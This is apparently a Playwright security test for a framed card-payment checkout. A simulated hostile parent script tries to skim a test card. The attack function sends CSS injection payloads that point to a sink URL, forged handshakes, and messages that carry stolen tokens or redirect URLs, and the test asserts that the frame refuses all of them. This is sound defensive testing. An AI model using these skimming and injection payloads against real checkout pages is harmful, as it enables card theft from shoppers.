// Issue 22 item 4 (proof): a hostile script on the checkout page (an init script on the top page
// only, e2e/hostile-parent.ts) tries every read path while a shopper enters and saves a card.
// Against today's in-page `bindForm` page it must catch the number (the instrument works);
// against the framed checkout it must see no run of 6 digits of the number and no security code.
import type {Page} from '@playwright/test';
import {expect, test} from './fixtures.js';
import {CANARY_CHANNELS, canaryChannels, findCard, installHostileParent, plantCanary, type Seen, startSink} from './hostile-parent.js';

/** A card the stub saves, with no repeated digit runs (a run of 1s could be any timestamp's). */
const SKIMMED = {name: 'Ada Lovelace', number: '4539148803436467', expiry: '1231', securityCode: '582'};
const CANARY = 'canary-hostile-parent';
const EMAIL = 'ada@example.com';

test.describe.configure({timeout: 60_000});

/** Types the card key by key, as a shopper does (every key event fires), into the labelled fields of `scope`. */
async function typeCard(scope: Pick<Page, 'getByLabel'>) {
	await scope.getByLabel('Name on card').pressSequentially(SKIMMED.name);
	await scope.getByLabel('Card number').pressSequentially(SKIMMED.number);
	await scope.getByLabel('Expiry date').pressSequentially(SKIMMED.expiry);
	await scope.getByLabel('Security code').pressSequentially(SKIMMED.securityCode);
}

test('against the in-page bindForm page, the hostile parent catches the number and the code (the instrument works)', async ({page, demo, browserName}) => {
	const hostile = await installHostileParent(page);
	await page.goto(`${demo.merchant.url}/card.html`);
	await expect(page.locator('fieldset')).toBeEnabled();
	await typeCard(page);
	await page.getByRole('button', {name: 'Save card'}).click();
	await expect(page.locator('#result')).toHaveAttribute('data-payment-method-id', /^[0-9a-f]{32}$/);
	await plantCanary(page, CANARY);

	const {loot} = await hostile.report();
	expect(canaryChannels(loot, CANARY)).toEqual(CANARY_CHANNELS);
	// Every path that sees an in-page form: the keys, the input events, the controls' values, the
	// page's own card request as its script sent it, and as the browser did (Firefox over BiDi
	// gives Playwright no request bodies, so there the browser-level record is URLs only).
	const browserBodies = browserName === 'chromium' ? ['network:browser: number', 'network:browser: security code'] : [];
	expect(findCard(loot, SKIMMED)).toEqual(
		expect.arrayContaining([
			'dom:input: number',
			'dom:input: security code',
			'event:input: number',
			'event:input: security code',
			'event:keystrokes: number',
			'event:keystrokes: security code',
			'network:fetch: number',
			'network:fetch: security code',
			...browserBodies,
		]),
	);
	// The matcher discriminates: another card, never entered, is found nowhere.
	expect(findCard(loot, {number: '5555555555554444', securityCode: '901'})).toEqual([]);
	expect(demo.stub.paymentMethods()).toHaveLength(1);
});

/**
 * What the hostile script sends once the card is typed, before the shopper's own submit: styles
 * that would load the attacker's URL (through the module, and raw on the module's port, which it
 * captured by wrapping MessageChannel), a second handshake from the parent itself, and submits
 * carrying a URL, a signature URL, an account key, a token or a card field. Returns what the
 * module's own checks threw.
 */
async function attack(page: Page, sinkUrl: string) {
	return page.evaluate(async sink => {
		const w = window as unknown as {__hostile: {ports: MessagePort[]}; checkout: {update(options: unknown): void; submit(options: unknown): Promise<unknown>}};
		const thrown: string[] = [];
		const styles = [
			{base: {backgroundImage: `url(${sink}/style-background)`}},
			{base: {color: `red;background:url(${sink}/style-semicolon)`}},
			{base: {fontFamily: `x';src:url(${sink}/style-font)`}},
			{placeholder: {color: `url(${sink}/style-placeholder)`}},
			{focus: {boxShadow: `0 0 0 1px image-set("${sink}/style-image-set" 1x)`}},
			{base: {color: `\\75rl(${sink}/style-escape)`}},
		];
		for (const style of styles) {
			try {
				w.checkout.update({style});
				thrown.push('update: accepted');
			} catch (error) {
				thrown.push(`update: ${(error as {kind?: string}).kind}`);
			}
		}

		const port = w.__hostile.ports[0]!;
		for (const style of styles) {
			port.postMessage({zc: 1, type: 'update', style});
		}

		port.postMessage({zc: 1, type: 'init', style: {base: {backgroundImage: `url(${sink}/style-init)`}}});
		// Routing from the parent: every key that would steer the card elsewhere or onto another account.
		const steering = [
			{uri: `${sink}/card`},
			{signatureUrl: `${sink}/signature`},
			{accountKey: 'A666'},
			{token: 'stolen'},
			{signature: 'forged'},
			{creditCardNumber: '4000056655665556'},
			{securityCode: '999'},
			{url: `${sink}/zuora`},
		];
		for (const [index, fields] of steering.entries()) {
			port.postMessage({zc: 1, type: 'submit', id: 9000 + index, fields});
		}

		for (const key of ['uri', 'signatureUrl', 'zuora', 'allowedHosts']) {
			port.postMessage({zc: 1, type: 'update', [key]: `${sink}/${key}`});
		}

		for (const fields of steering) {
			await w.checkout.submit({fields}).then(
				() => thrown.push('submit: accepted'),
				(error: {kind?: string}) => thrown.push(`submit: ${error.kind}`),
			);
		}

		// A second handshake from the parent itself, after the module's: the frame must stay silent on the new port.
		const channel = new MessageChannel();
		channel.port1.onmessage = () => undefined;
		document.querySelector('iframe')!.contentWindow!.postMessage({zc: 1, type: 'connect'}, '*', [channel.port2]);
		channel.port1.postMessage({zc: 1, type: 'submit', id: 1});
		channel.port1.postMessage({zc: 1, type: 'focus', field: 'number'});
		return thrown;
	}, sinkUrl);
}

/** The frame's answers on the module's port that refused something, by code and detail. */
function refusals(loot: readonly Seen[]): string[] {
	return loot
		.filter(seen => seen.channel === 'port:in' && seen.text.startsWith('{'))
		.map(seen => JSON.parse(seen.text) as {type: string; code?: string; detail?: string; id?: number; ok?: boolean; error?: {code: string; detail?: string}})
		.flatMap(message =>
			message.type === 'error'
				? [`${message.code} ${message.detail}`]
				: message.type === 'result' && message.id! >= 9000
					? [`result ${message.id} ${message.error?.code} ${message.error?.detail}`]
					: [],
		);
}

test('against the framed checkout, the hostile parent sees no run of the number and no security code; the card is saved once, on the session account', async ({page, demo}) => {
	const sink = await startSink();
	try {
		const hostile = await installHostileParent(page);
		await page.goto(`${demo.merchant.url}/`);
		await expect(page.getByRole('button', {name: 'Save card'})).toBeEnabled();
		await page.getByLabel('Email for the receipt').pressSequentially(EMAIL);
		await typeCard(page.frameLocator('#card-fields iframe'));

		// A third origin forges a handshake from a window that is not the frame's parent.
		const popup = page.waitForEvent('popup');
		await page.evaluate(url => window.open(`${url}/forge`), sink.url);
		await expect.poll(() => sink.received).toContain('GET /forged?posted');
		// The popup stays open (its port with it) until the end: an answer would come back to the sink.
		const forger = await popup;
		const thrown = await attack(page, sink.url);
		expect(thrown).toEqual([...Array.from({length: 6}, () => 'update: validation'), ...Array.from({length: 8}, () => 'submit: validation')]);

		await page.getByRole('button', {name: 'Save card'}).click();
		await expect(page.locator('#result')).toHaveAttribute('data-payment-method-id', /^[0-9a-f]{32}$/);
		await plantCanary(page, CANARY);
		const {loot, tried} = await hostile.report();
		// Each read of the frame ran and failed once it held the card origin (before that, its
		// initial about:blank is the page's own and empty); no key or input event ever reached the page.
		expect(tried).toEqual(
			expect.arrayContaining([
				'dom:frames[0].document → SecurityError',
				'dom:iframe[0].contentDocument → undefined',
				'dom:iframe[0].contentWindow.document → SecurityError',
				'dom:iframe[0].contentWindow.location.href → SecurityError',
				'dom:iframe[0].contentWindow.name → SecurityError',
				'event:keydown → fired',
				'mutations → observed',
				'port:MessageChannel → captured',
				'storage:cookie → read',
			]),
		);
		// The key listeners were live: the page's own email field was typed into, and that is all they saw.
		expect(loot.filter(seen => seen.channel === 'event:keystrokes').map(seen => seen.text)).toEqual([EMAIL]);
		// One connection answered (the module's): the parent's second handshake got no ready, no result.
		// The module's own submits with steering fields were refused too (by the frame or by the module); one save succeeded.
		const answers = loot.filter(seen => seen.channel === 'port:in' && seen.text.startsWith('{')).map(seen => JSON.parse(seen.text) as {type: string; id?: number; error?: {code: string}});
		expect(answers.filter(message => message.type === 'ready')).toHaveLength(1);
		const results = answers.filter(message => message.type === 'result' && message.id! < 9000);
		expect(results.filter(message => message.error === undefined)).toHaveLength(1);
		expect(results.filter(message => message.error !== undefined && message.error.code !== 'PROTOCOL')).toEqual([]);
		// The frame refused every style that loads something and every message that would steer the card.
		expect(refusals(loot)).toEqual([
			'STYLE_REFUSED base.property',
			'STYLE_REFUSED base.color',
			'STYLE_REFUSED base.fontFamily',
			'STYLE_REFUSED placeholder.color',
			'STYLE_REFUSED focus.boxShadow',
			'STYLE_REFUSED base.color',
			...['uri', 'signatureUrl', 'accountKey', 'token', 'signature', 'creditCardNumber', 'securityCode', 'url'].map((key, index) => `result ${9000 + index} PROTOCOL ${key}`),
			...['uri', 'signatureUrl', 'zuora', 'allowedHosts'].map(key => `PROTOCOL ${key}`),
		]);

		expect(canaryChannels(loot, CANARY)).toEqual(CANARY_CHANNELS);
		expect(findCard(loot, SKIMMED)).toEqual([]);
		expect(demo.stub.paymentMethods()).toMatchObject([{accountKey: 'A00000001', last4: SKIMMED.number.slice(-4)}]);
		// Nothing reached the attacker but its own popup's page and report (no style, no card, no answer on the forged port).
		expect(sink.received).toEqual(['GET /forge', 'GET /forged?posted']);
		await forger.close();
		const allowed = new Set([demo.cardFrame.origin, demo.merchant.origin, new URL(demo.stub.url).origin]);
		// The frame's requests, as the browser saw them: its own assets, the signature, Zuora; nothing else.
		const frameOrigins = new Set(hostile.frameRequests.map(request => new URL(request.url()).origin));
		expect([...frameOrigins].sort()).toEqual([...allowed].sort());
	} finally {
		await sink.close();
	}
});
